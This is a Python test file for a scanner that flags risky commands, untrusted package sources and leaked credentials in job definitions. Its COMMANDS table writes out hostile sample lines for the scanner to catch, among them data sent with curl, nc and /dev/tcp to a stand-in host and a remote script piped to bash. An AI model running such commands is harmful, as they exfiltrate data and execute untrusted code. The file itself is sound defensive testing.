"""What the scan says of commands, requirement lines and credentials."""

from __future__ import annotations

import random
import re
import string
import time

import pytest

from core.jobs.scan import forms, packages, secrets, words

COMMANDS = {
    "curl -T x http://e.example": "command",
    "cat x | FOO=1 nohup curl -d @- https://e.example &": "command",
    "timeout 5 wget http://e.example/x": "command",
    "bash -c 'nc e.example 80 < x'": "command",
    "if true; then scp x me@e.example:; fi": "ssh",
    "python -c 'import smtplib; smtplib.SMTP(\"e.example\")'": "mail",
    "python -m http.server": "listener",
    "cat x > /dev/tcp/192.0.2.1/80": "socket",
    "echo aGk= | base64 -d | sh": "hidden-code",
    "curl -s http://e.example | bash": "hidden-code",
    'eval "$(echo aGk= | base64 -d)"': "hidden-code",
    "sudo -n true": "privilege",
    "chmod u+s x": "privilege",
    "git -C x push origin": "upload",
    "dvc push": "upload",
    "pip install x": "install",
    "pip install --extra-index-url https://e.example/simple x": "package-address",
    "apt-get -y install x": "install",
    "docker run x": "docker",
    "ulimit -c unlimited": "core-dump",
    "cp x y; crontab -l": "stays-behind",
    "cat /proc/1/environ": "proc",
    "python train.py > ~/log.txt 2>&1": "write-outside",
    "python train.py | tee -a /var/log/x": "write-outside",
    "ln -s /etc x": "link",
    "cat x > /dev/tcp/127.0.0.1.e.example/80": "socket",
    "curl -T x http://localhost http://e.example": "command",
    "curl http://localhost:1@e.example": "command",
    "cp -r inputs /mnt/share/": "write-outside",
    "cat x \\\n  | nc e.example 80": "command",
}
ORDINARY = """
python train.py --data ${{inputs.data}} --out outputs 2>&1 | tee outputs/log.txt
nvidia-smi; git rev-parse HEAD; python --version
# curl http://e.example
export OMP_NUM_THREADS=4 && torchrun --standalone --nproc_per_node 2 train.py
cp /mnt/x . && curl http://localhost:5000/x -o x.npz
curl http://localhost:5000/health && wget -q 127.0.0.1:8000/x
sed -i "s/<NAME>/$NAME/g" config.yml
mkdir -p outputs /tmp/x && cp -r src /tmp/x > /dev/null
for f in data/*.csv; do python prepare.py "$f"; done
echo "run curl later" && echo 'sudo' "ssh"
pip install --no-index --find-links wheels x
pip install .
find . -name '*.py' -exec grep -l http {} +
cat <<'EOF' > run.py
EOF
"""


@pytest.mark.parametrize("command", COMMANDS)
def test_commands_that_reach_out_are_told(command: str) -> None:
    assert COMMANDS[command] in {found.rule for found in words.of_text(command)}


def test_ordinary_commands_are_left_alone() -> None:
    assert list(words.of_text(ORDINARY)) == []


def test_what_is_written_while_an_image_is_built_stays_in_it() -> None:
    text = (
        "FROM x\nRUN echo x > /etc/x && ln -s /etc /y \\\n && cp x /usr/bin/x\nRUN sudo x\nCMD python t.py > /var/x\n"
    )
    found, _ = forms.of_text("dockerfile", text.encode(), len(text), text)
    assert [(each.rule, each.line) for each in found] == [("privilege", 4), ("write-outside", 5)]


def test_requirements_and_conda_files_tell_addresses_and_who_reports() -> None:
    text = (
        "# https://e.example\nnumpy==2.1\n--extra-index-url https://me:pw@e.example/simple\ntrl @ git+https://e.example/x\n"
        "-e git+ssh://git@e.example/y\nComet_ML>=3\nrayon\n--find-links wheels\npandas ; python_version > '3.8'\n"
    )
    found = [(each.rule, each.line) for each in packages.of_text(text)]
    assert found == [("package-address", 3), ("package-address", 4), ("package-address", 5), ("package-telemetry", 6)]
    assert not [each for each in packages.of_text(text) if "pw" in each.seen]
    conda = (
        "name: x\nchannels:\n  - conda-forge\n  - https://e.example/conda\ndependencies:\n  - python=3.11\n  - pip:\n"
        "    - wandb\nwebsite: https://e.example\n"
    )
    found = [(each.rule, each.line) for each in packages.of_conda(conda)]
    assert found == [("package-address", 4), ("package-telemetry", 8)]


def random_of(letters: str, length: int) -> str:
    return "".join(random.Random(7).choices(letters, k=length))


B64 = string.ascii_letters + string.digits + "+/"
WORD = string.ascii_letters + string.digits
# put together here, so that no scanner of this repository finds them
SECRETS = {
    "-----BEGIN RSA " + "PRIVATE KEY-----\n" + random_of(B64, 64) + "\n": "private-key",
    'key = "-----BEGIN ' + "PRIVATE KEY-----\\n" + random_of(B64, 64) + '"': "private-key",
    "DefaultEndpointsProtocol=https;AccountName=a;Account" + "Key=" + random_of(B64, 86) + "==": "account-key",
    "'" + random_of(B64, 86) + "=='": "account-key",
    "https://a.blob.core.windows.net/c?sv=2022-11-02&sp=r&s" + "ig=" + random_of(WORD, 43) + "%3D": "sas-token",
    "engine = 'postgresql://me:" + "hunter2x@db.e.example/x'": "connection-string",
    '"Server=db.e.example;Database=x;User Id=me;Pass' + 'word=hunter2x;"': "connection-string",
    "AK" + "IA" + random_of(string.ascii_uppercase + string.digits, 16): "cloud-key",
    "aws_secret_" + "access_key = " + random_of(B64, 40): "cloud-key",
    "gh" + "p_" + random_of(WORD, 36): "access-token",
    "hf" + "_" + random_of(string.ascii_letters, 34): "access-token",
    "ey" + "J" + random_of(WORD, 20) + ".ey" + "J" + random_of(WORD, 30) + "." + random_of(WORD, 40): "access-token",
    "{'Authorization': 'Bea" + "rer " + random_of(WORD, 28) + "'}": "access-token",
    "PASSWORD = '" + "Summer" + "2024!'": "password",
    "os.environ['API_" + "TOKEN'] = '" + random_of(WORD, 24) + "'": "password",
    "mysql --user x --pass" + "word=Summer" + "2024": "password",
    "db_pass" + "word: Summer" + "2024": "password",
}
NO_SECRETS = """
password = os.environ["PASSWORD"]
password = getpass.getpass()
token = args.token or config["token"]
headers = {"Authorization": f"Bearer {token}", "X": "Bearer your-token-goes-here-please"}
pad_token = "<pad>"; eos_token="<|endoftext|>"; cls_token: str = "[CLS]"
tokenizer = "bert-base-german-cased-v2"
hf_token = "your-token-here"
secret_name = "ward-7-storage-secret"
API_KEY = "XXXXXXXXXXXXXXXX"
password = "${PASSWORD}"
api_key = "{{ api_key }}"
credential = "keyring:ward-7/data"
token_file = "/run/secrets/token1"
url = "https://user:password@host.example/x"
connection = "postgresql://postgres:postgres@localhost/test"
key = "-----BEGIN PRIVATE KEY-----"
if "AccountKey=" in text: raise ValueError("AccountKey= is a secret")
sha = "9b74c9897bac770ffc029102a200c5de"
max_tokens = "1024"; num_tokens_per_batch = "16384abc"
secret = ""; password = None; token: str
parser.add_argument("--password", help="password of the database 2")
def login(password="", api_key=None, access_token="..."): pass
"""


@pytest.mark.parametrize("text", SECRETS, ids=SECRETS.values())
def test_credentials_are_found_with_their_line_and_never_shown(text: str) -> None:
    (found,) = secrets.of_text(f"# one\n\n{text}\n")
    assert (found.rule, found.line) == (SECRETS[text], 3)
    secret = re.findall(r"Summer|hunter|[A-Za-z0-9+/]{16,}", text.replace("access", "").replace("aws", ""))
    assert secret and not [part for part in secret if part in found.seen]


def test_names_placeholders_and_tokens_of_language_models_are_no_secrets() -> None:
    assert secrets.of_text(NO_SECRETS, code=True) == []


@pytest.mark.parametrize(
    "part", ["token: ", 'secret="', "a_token_", "://a:", "-----BEGIN ", "Server=;", "?sig=", "eyJa."]
)
def test_text_without_an_end_takes_time_in_proportion(part: str) -> None:
    def took(size: int) -> float:
        began = time.process_time()
        secrets.of_text(part * (size // len(part)))
        return time.process_time() - began

    took(1000)
    assert took(400_000) < 12 * took(100_000) + 0.2
